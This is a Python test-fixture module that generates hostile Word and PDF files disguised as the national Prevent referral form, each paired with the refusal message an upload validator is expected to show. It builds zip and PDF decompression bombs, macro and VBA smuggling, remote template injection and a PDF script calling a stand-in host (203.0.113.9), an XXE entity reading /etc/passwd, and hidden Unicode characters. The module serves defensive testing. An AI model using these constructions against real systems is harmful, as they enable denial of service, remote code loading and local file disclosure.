"""Hostile files dressed as the national form (issue 15, "Bad input"), each with the words
of the message an officer should see. Built from the realistic fixtures (``forms``) so each
differs from a good form only in its attack."""

from __future__ import annotations

import functools
import io
import zipfile
import zlib

import docx
import pypdf
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from weasyprint import HTML

from . import forms

MACROS = "contains macros"
BOMB = "would unpack to far more"
SCRIPTS = "contains scripts, automatic actions or embedded files"
PICTURE = "is a picture, not a Word document or PDF"
NOT_A_FORM = "is not the national Prevent referral form"
OTHER_LAYOUT = "not in the national form’s layout"
DAMAGED = "is damaged or incomplete"
PASSWORD = "protected with a password"
NO_TEXT = "holds no text that can be read"
TOO_MUCH_TEXT = "far more text than a referral form could"
OLD_WORD = "older Word document (.doc)"

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00"
    b"\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add=None) -> bytes:
    """The .docx with some parts replaced or added, everything else as it was."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = replace.get(info.filename, source.read(info.filename))
            target.writestr(info.filename, content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def complete_docx() -> bytes:
    return forms.build_docx(forms.COMPLETE)


def macro_enabled() -> bytes:
    """A .docm (macro-enabled main part and a VBA project) renamed .docx."""
    data = complete_docx()
    types = part(data, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezip(
        data,
        replace={"[Content_Types].xml": types},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500},
    )


def vba_project_only() -> bytes:
    """An ordinary-looking .docx that smuggles a VBA project part."""
    return rezip(complete_docx(), add={"word/vbaProject.bin": b"Attribute VB_Name = x"})


def remote_template() -> bytes:
    """A .docx whose settings point at a template on a web server (template injection)."""
    data = complete_docx()
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://203.0.113.9/form.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return rezip(data, add={"word/_rels/settings.xml.rels": rels})


def zip_bomb(megabytes: int = 200) -> bytes:
    """A .docx-looking zip whose document part unpacks to ``megabytes`` of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as inner:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                inner.write(chunk)
    return buffer.getvalue()


def javascript_pdf() -> bytes:
    """The complete form's PDF with a document-level script that runs on opening."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(forms.build_pdf(forms.COMPLETE)))
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('http://203.0.113.9/x', true);"),
        }
    )
    names = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [TextStringObject("go"), writer._add_object(script)]
                    )
                }
            )
        }
    )
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action_pdf() -> bytes:
    """A script as the PDF's open action, its action name hex-escaped (/J#61vaScript)."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(forms.build_pdf(forms.COMPLETE)))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue().replace(b"/JavaScript", b"/J#61vaScript")


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(forms.build_pdf(forms.COMPLETE)))
    writer.encrypt("secret-password")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def picture_pdf() -> bytes:
    """A scan: a PDF with a picture and no text."""
    return HTML(
        string="<img src='data:image/png;base64,"
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4DwAAAQEABRjYTgAAAABJRU5ErkJggg=='"
        " width=400>"
    ).write_pdf()


def other_layout() -> bytes:
    """A council's own "Prevent referral form", not the national one."""
    document = docx.Document()
    document.add_heading("Northbridge Council – Prevent Referral Form", level=1)
    table = document.add_table(rows=0, cols=2)
    for label, value in [
        ("Name of young person", "Jordan Ellis"),
        ("DOB", "14/02/2010"),
        ("Address", "12 Station Road, Northbridge"),
        ("School", "Northbridge Academy"),
        ("Reason for referral", "Sharing extremist videos"),
        ("Referrer", "Helen Okafor"),
    ]:
        row = table.add_row()
        row.cells[0].text = label
        row.cells[1].text = value
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def letter() -> bytes:
    """A Word document that is not a form at all."""
    document = docx.Document()
    document.add_paragraph("Dear Sir or Madam,")
    document.add_paragraph("Please find attached our minutes of the last meeting.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def raw_control_character() -> bytes:
    """A .docx whose XML carries a raw control character (not well-formed XML)."""
    data = complete_docx()
    document = part(data, "word/document.xml").replace(b"Jordan", b"Jor\x01dan", 1)
    return rezip(data, replace={"word/document.xml": document})


def external_entity() -> bytes:
    """A .docx whose XML declares an external entity naming a local file (XXE)."""
    data = complete_docx()
    document = part(data, "word/document.xml")
    head, rest = document.split(b"?>", 1)
    doctype = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rest = rest.replace(b"<w:t>Jordan</w:t>", b"<w:t>Jordan&xxe;</w:t>", 1)
    return rezip(data, replace={"word/document.xml": head + b"?>" + doctype + rest})


def hidden_characters() -> bytes:
    """Answers with characters a reader cannot see: a right-to-left override (which makes
    text display reversed), zero-width spaces and joiners, a byte-order mark."""
    fixture = forms.Fixture(
        name="hidden",
        answers={
            **forms.COMPLETE.answers,
            "first_name": "Jor\u200bdan\u200d",
            "last_name": "\ufeffEl\u202elis",
        },
        expected={},
    )
    return forms.build_docx(fixture)


def long_answer() -> bytes:
    """The concern box filled with 50,000 characters."""
    fixture = forms.Fixture(
        name="long",
        answers={**forms.COMPLETE.answers, "concern_summary": "A" * 50_000},
        expected={},
    )
    return forms.build_docx(fixture)


def huge_text() -> bytes:
    """Every free-text box filled with 50,000 characters: more text than a form holds."""
    filler = "word " * 10_000
    answers = dict(forms.COMPLETE.answers)
    for key in (
        "concern_summary",
        "how_concern_arose",
        "online_activity",
        "additional_needs",
        "previous_addresses",
        "contact_details",
    ):
        answers[key] = filler
    return forms.build_docx(forms.Fixture(name="huge", answers=answers, expected={}))


def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000


def hostile_files() -> list[tuple[str, bytes, str]]:
    """(file name, content, words of the message) for every file that must be refused."""
    return list(_hostile_files())


@functools.cache
def _hostile_files() -> tuple[tuple[str, bytes, str], ...]:
    """Made once per process: three test modules read them when collected, and building
    the bombs and PDFs took seconds each time, in every pytest-xdist worker."""
    return (
        ("macro-enabled.docx", macro_enabled(), MACROS),
        ("vba-project.docx", vba_project_only(), MACROS),
        ("remote-template.docx", remote_template(), MACROS),
        ("zip-bomb.docx", zip_bomb(), BOMB),
        ("pdf-bomb.pdf", pdf_bomb(), BOMB),
        ("javascript.pdf", javascript_pdf(), SCRIPTS),
        ("open-action.pdf", open_action_pdf(), SCRIPTS),
        ("encrypted.pdf", encrypted_pdf(), PASSWORD),
        ("scan.pdf", picture_pdf(), NO_TEXT),
        ("photo.docx", PNG, PICTURE),
        ("other-layout.docx", other_layout(), OTHER_LAYOUT),
        ("minutes.docx", letter(), NOT_A_FORM),
        ("control-character.docx", raw_control_character(), DAMAGED),
        ("huge-text.docx", huge_text(), TOO_MUCH_TEXT),
        ("old-word.docx", old_word(), OLD_WORD),
    )


def pdf_bomb(megabytes: int = 100) -> bytes:
    """A PDF whose one content stream inflates to ``megabytes`` of spaces."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()
